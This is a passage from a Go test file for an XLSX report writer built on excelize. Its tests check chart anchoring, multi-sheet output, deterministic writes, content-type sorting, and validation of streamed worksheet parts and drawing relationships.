			t.Errorf("chart1.xml lacks %s", want)
		}
	}
	if strings.Contains(zipPart(t, data, "xl/charts/chart2.xml"), `formatCode="0%"`) {
		t.Errorf("chart2.xml has a percent axis without Chart.Percent")
	}
	// The chart sits at the top, to the right of the table: from column F
	// (index 5), row 1 (index 0).
	if x := zipPart(t, data, "xl/drawings/drawing1.xml"); !strings.Contains(x, "<xdr:from><xdr:col>5</xdr:col><xdr:colOff>76200</xdr:colOff><xdr:row>0</xdr:row>") {
		t.Errorf("drawing1.xml anchor = %s, want from F1", x)
	}
	// No chart on continuation sheets, nor without rows.
	for i := 3; i <= 4; i++ {
		if x := sheetXML(t, data, i); strings.Contains(x, "<drawing") {
			t.Errorf("sheet%d.xml has a drawing", i)
		}
	}
	if hasPart(t, data, "xl/charts/chart3.xml") {
		t.Errorf("workbook has a third chart")
	}
	// The flagged rows and the data are unchanged by the chart.
	if rows, err := f.GetRows("Summary"); err != nil || len(rows) != 4 || rows[2][0] != "Fabrikam" {
		t.Errorf("GetRows(Summary) = %q, %v", rows, err)
	}
	if cf, err := f.GetConditionalFormats("Summary"); err != nil || len(cf["A2:E4"]) != 1 {
		t.Errorf("GetConditionalFormats(Summary) = %+v, %v; want one rule on A2:E4", cf, err)
	}
}

// TestWriteManySheets writes a report-shaped workbook and checks that every
// sheet is whole and in order.
func TestWriteManySheets(t *testing.T) {
	sheets := benchReport(5_000)
	data := writeBytes(t, excelize.TotalRows, sheets...)
	f := open(t, data)
	var want []string
	for _, s := range sheets {
		want = append(want, s.Name)
	}
	if got := f.GetSheetList(); !slices.Equal(got, want) {
		t.Fatalf("sheets = %q, want %q", got, want)
	}
	for i, s := range sheets {
		n := 0
		for range s.Rows {
			n++
		}
		rows, err := f.Rows(s.Name)
		if err != nil {
			t.Fatal(err)
		}
		got := 0
		for rows.Next() {
			got++
		}
		if err := rows.Close(); err != nil {
			t.Fatal(err)
		}
		if got != n+1 {
			t.Errorf("sheet %q has %d rows, want %d and the header", s.Name, got, n)
		}
		if tab := strings.Contains(sheetXML(t, data, i+1), `tabSelected="1"`); tab != (i == 0) {
			t.Errorf("sheet %q: tabSelected = %v, want %v", s.Name, tab, i == 0)
		}
	}
}

func TestWriteDeterministic(t *testing.T) {
	a := writeBytes(t, 100, benchReport(1_000)...)
	b := writeBytes(t, 100, benchReport(1_000)...)
	if !bytes.Equal(a, b) {
		t.Errorf("two writes of the same sheets differ")
	}
}

func TestSortDefaults(t *testing.T) {
	in := `<Types><Default Extension="xml" ContentType="application/xml"></Default><Default Extension="png" ContentType="image/png"/>` +
		`<Override PartName="/a"></Override><Default Extension="bmp" ContentType="image/bmp"></Default></Types>`
	want := `<Types><Default Extension="bmp" ContentType="image/bmp"></Default><Default Extension="png" ContentType="image/png"/>` +
		`<Override PartName="/a"></Override><Default Extension="xml" ContentType="application/xml"></Default></Types>`
	if got := string(sortDefaults([]byte(in))); got != want {
		t.Errorf("sortDefaults(%s) =\n%s\nwant\n%s", in, got, want)
	}
}

func TestPartWriterCheck(t *testing.T) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	t.Run("unknown worksheet", func(t *testing.T) {
		p := &partWriter{zw: zw, streamed: map[string]string{"xl/worksheets/sheet1.xml": ""}}
		if _, err := p.Create("xl/worksheets/sheet2.xml"); err == nil {
			t.Errorf("Create(an unstreamed worksheet) succeeded")
		}
	})
	t.Run("missing", func(t *testing.T) {
		var out bytes.Buffer
		p := &partWriter{zw: zip.NewWriter(&out), streamed: map[string]string{"xl/worksheets/sheet1.xml": ""}}
		if err := p.Close(); err == nil {
			t.Errorf("Close() = nil with a streamed part excelize did not write")
		}
		if _, err := zip.NewReader(bytes.NewReader(out.Bytes()), int64(out.Len())); err == nil {
			t.Errorf("Close() after a failed check wrote a readable ZIP")
		}
	})
	t.Run("twice", func(t *testing.T) {
		p := &partWriter{zw: zw, streamed: map[string]string{"xl/worksheets/sheet1.xml": ""}}
		if _, err := p.Create("xl/worksheets/sheet1.xml"); err != nil {
			t.Fatal(err)
		}
		if _, err := p.Create("xl/worksheets/sheet1.xml"); err == nil {
			t.Errorf("second Create of a streamed part succeeded")
		}
	})
	t.Run("drawing", func(t *testing.T) {
		const (
			sheet = "xl/worksheets/sheet1.xml"
			rels  = "xl/worksheets/_rels/sheet1.xml.rels"
			good  = `<worksheet><drawing r:id="rId1"></drawing></worksheet>`
			rel   = `<Relationships><Relationship Id="rId1" Target="../drawings/drawing2.xml" Type="` + relTypeDrawing + `"></Relationship></Relationships>`
		)
		for _, tt := range []struct {
			rendered, rels string
			ok             bool
		}{
			{good, rel, true},
			{`<worksheet><drawing r:id="rId2"></drawing></worksheet>`, rel, false},
			{`<worksheet></worksheet>`, rel, false},
			{good, "", false},
			{good, strings.Replace(rel, "drawing2", "drawing1", 1), false},
		} {
			p := &partWriter{zw: zw, streamed: map[string]string{sheet: "../drawings/drawing2.xml"}}
			w, err := p.Create(sheet)
			if err != nil {
				t.Fatal(err)
			}
			io.WriteString(w, tt.rendered)
			if tt.rels != "" {
				w, err := p.Create(rels)
				if err != nil {
					t.Fatal(err)
				}
				io.WriteString(w, tt.rels)
			}
			if err := p.check(); (err == nil) != tt.ok {
				t.Errorf("check() after %s and %q = %v, want ok %v", tt.rendered, tt.rels, err, tt.ok)
			}
		}
	})
	t.Run("relationships without a drawing", func(t *testing.T) {
		p := &partWriter{zw: zw, streamed: map[string]string{"xl/worksheets/sheet1.xml": ""}}
		if _, err := p.Create("xl/worksheets/_rels/sheet1.xml.rels"); err == nil {
			t.Errorf("Create(relationships of a worksheet without a drawing) succeeded")
		}
	})
}
